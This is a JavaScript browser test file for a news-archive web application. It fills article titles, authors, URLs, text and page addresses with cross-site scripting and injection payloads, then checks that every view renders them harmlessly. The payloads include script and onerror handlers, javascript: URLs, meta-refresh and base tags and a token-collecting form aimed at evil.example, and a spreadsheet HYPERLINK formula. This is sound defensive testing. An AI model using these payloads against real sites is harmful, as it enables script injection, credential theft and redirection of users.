// Hostile articles: a payload in every field that an article brings, looked at in a real browser through every view. No script runs, no
// element comes to be, no other server is asked, no link leads out by anything but http.
//   node tests/page_hostile.mjs VEDETTE
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { browserPath, makeFolder, openBrowser, play, run, serve, writeArticles } from './page_stage.mjs';

const program = process.argv[2];
if (!program) throw new Error('usage: node tests/page_hostile.mjs VEDETTE');
browserPath();
const folder = makeFolder();
const archive = join(folder, 'hostile.vedette');
const kPayloads = [
  '<script>window.hit=1</script>', '<img src=x onerror=window.hit=1>', '"><svg onload=window.hit=1>', "'><iframe srcdoc='<script>parent.hit=1</script>'>",
  '</title></style></textarea><script>window.hit=1</script>', '<a href=javascript:window.hit=1>x</a>', '{@html "<img src=x onerror=window.hit=1>"}',
  '${window.hit=1}', '<style>*{display:none}</style>', '<meta http-equiv=refresh content="0;url=https://evil.example/">', '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>', '<form action=https://evil.example><input name=token>', '<math><mtext><img src=x onerror=window.hit=1>',
  '\u202e<b>turned</b>\u202c', '=HYPERLINK("https://evil.example")', '<details open ontoggle=window.hit=1>', '<object data="javascript:window.hit=1">', '&lt;script&gt;window.hit=1&lt;/script&gt;',
];
const kAddresses = ['javascript:window.hit=1//', 'JaVaScRiPt:window.hit=1//', 'data:text/html,<script>window.hit=1</script>', 'https://evil.example/"onmouseover="window.hit=1', ' javascript:window.hit=1//', 'vbscript:x', '//evil.example/x'];
const articles = kPayloads.flatMap((payload, i) => [0, 1].map((twice) => ({
  id: `${payload} ${i}`, title: twice && i % 2 ? undefined : `${payload} title ${i}`, site: `${payload}.example${twice}`, url: `${kAddresses[(i + twice) % kAddresses.length]}${i}${twice}`, author: payload, language: payload, published: `2023-07-${String(1 + (i % 28)).padStart(2, '0')}`,
  text: `${payload} ${twice} Russia attacked the Ukrainian city of ${payload} Kharkiv on Monday. President Vladimir ${payload} Putin said: "We will ${payload} answer", and promised to withdraw troops by August 1. ${payload} The leaders of Kosovo and Serbia will meet in ${payload} Brussels on 20 July 2023. Minister Hans ${payload} Muster of Serbia accused "${payload}" of lying.`,
})));
run(program, ['add', writeArticles(folder, 'hostile <img src=x onerror=window.hit=1>.jsonl', articles), '--to', archive]);
const { address } = await serve(program, archive);
const browser = await openBrowser();
const ask = async (path) => (await fetch(`${address}/api/1/${path}`)).json();
const kept = (await ask('articles?limit=200')).items;
assert.ok(kept.length >= kPayloads.length, `${kept.length} articles are kept`);
assert.ok(kept.some((one) => (one.title ?? '').includes('<script>')), 'the payloads are in the archive as they came');
assert.ok(kept.some((one) => /<img/.test(one.opening ?? '')), 'what has no title begins with a payload');
const actors = (await ask('actors?limit=100')).items.filter((one) => /[<>{$]/.test(one.name));
const stories = (await ask('stories?limit=100')).items;

async function harmless(page, path) {
  await page.waitForTimeout(60);
  const found = await page.evaluate(() => ({
    hit: window.hit,
    elements: [...document.querySelectorAll('iframe, object, embed, img, base, meta[http-equiv], style, main form[action], main link, math, body script')].map((one) => one.outerHTML.slice(0, 120)),
    handlers: [...document.querySelectorAll('*')].flatMap((one) => [...one.attributes]).filter((one) => /^on/i.test(one.name)).map((one) => `${one.name}=${one.value}`),
    links: [...document.querySelectorAll('a')].map((one) => one.getAttribute('href') ?? '').filter((href) => href && !/^(\/(?!\/)|https?:\/\/|#)/.test(href)),
    out: [...document.querySelectorAll('a[target]')].filter((one) => !/noopener/.test(one.rel)).length,
    shown: getComputedStyle(document.body).display !== 'none' && document.body.innerText.length > 100,
  }));
  assert.deepEqual(found, { hit: undefined, elements: [], handlers: [], links: [], out: 0, shown: true }, path);
}

const kViews = ['/', '/events', '/stories', '/articles', '/actors', '/blocs', '/calendar', '/calendar?month=2023-07', '/commitments', '/quotes', '/tension', '/tension?pair=RUS,UKR', '/compare?by=source&left=a&right=b', '/watch'];
const checks = kViews.map((path) => [`harmless: ${path}`, async (page) => {
  await page.goto(address + path);
  await page.waitForFunction(() => document.querySelector('main h1') && !document.querySelector('[role=status] .line'));
  await harmless(page, path);
  for (const summary of await page.locator('main summary').all()) await summary.click();
  await harmless(page, path);
}, { expectErrors: true }]);
checks.push(['harmless: the articles, their marks, cards and records', async (page) => {
  for (const article of kept.filter((_, i) => i % 4 === 0)) {
    await page.goto(`${address}/article/${article.id}`);
    await page.waitForSelector('article.text');
    await harmless(page, article.title);
    const mark = page.locator('article.text .m[role=button]').first();
    if (await mark.count()) {
      await mark.hover();
      await mark.click();
      await page.waitForSelector('aside.inspector .evidence');
      await harmless(page, article.title);
    }
  }
}]);
checks.push(['harmless: actors of hostile names, and stories', async (page) => {
  for (const actor of actors.slice(0, 6)) {
    await page.goto(`${address}/actor/${encodeURIComponent(actor.key)}`);
    await page.waitForSelector('main h1, main [role=alert]');
    await harmless(page, actor.name);
  }
  for (const story of stories.slice(0, 6)) {
    await page.goto(`${address}/story/${story.story}`);
    await page.waitForSelector('main h1');
    await harmless(page, story.title);
  }
}, { expectErrors: true }]);
checks.push(['harmless: payloads in the address', async (page) => {
  await page.goto(address);
  await page.waitForSelector('main h1');
  for (const payload of kPayloads) {
    const value = encodeURIComponent(payload);
    for (const path of [`/events?who=${value}&text=${value}&near=${value}`, `/article/${value}?item=${value}&at=${value}&layers=${value}`, `/actor/${value}`, `/compare?by=${value}&left=${value}&right=${value}`, `/watch?add=actor&name=${value}&actor=${value}`]) {
      // As a link within the page would go there.
      await page.evaluate((to) => {
        history.pushState(null, '', to);
        dispatchEvent(new PopStateEvent('popstate'));
      }, path);
      await page.waitForSelector('main h1, main [role=alert]');
      await harmless(page, path);
    }
  }
  await page.goto(`${address}/events?text=${encodeURIComponent(kPayloads[1])}`);
  await page.waitForSelector('main h1');
  await harmless(page, 'opened with a payload');
}, { expectErrors: true }]);
checks.push(['harmless: rows for a spreadsheet run nothing', async (page) => {
  await page.goto(address + '/articles');
  await page.waitForSelector('section[aria-label=Articles] ol > li');
  await page.getByRole('button', { name: 'Export' }).click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByText('What is shown, CSV').click()]);
  const { readFileSync } = await import('node:fs');
  const csv = readFileSync(await download.path(), 'utf8');
  assert.match(csv, /HYPERLINK/);
  assert.doesNotMatch(csv, /(^|,|\n)"?=HYPERLINK/);
}]);

await play(browser, checks, { address });
